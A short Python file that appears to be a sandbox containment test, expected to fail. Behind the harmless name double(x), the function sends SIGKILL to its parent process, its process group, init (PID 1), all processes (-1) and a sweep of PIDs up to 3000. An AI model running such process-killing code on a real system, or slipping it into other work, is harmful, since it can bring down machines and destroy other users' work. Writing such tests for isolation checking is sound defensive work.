"""Sends signals to its parent, its group and everyone.

must: failed
"""

import os
import signal


def double(x):
    for target in (os.getppid(), -1, 1, -os.getpgid(os.getppid()), *range(2, 3000, 7)):
        if target == os.getpid():
            continue  # that, it may
        try:
            os.kill(target, signal.SIGKILL)
        except OSError as error:
            last = error
    print(last.strerror)
    return x
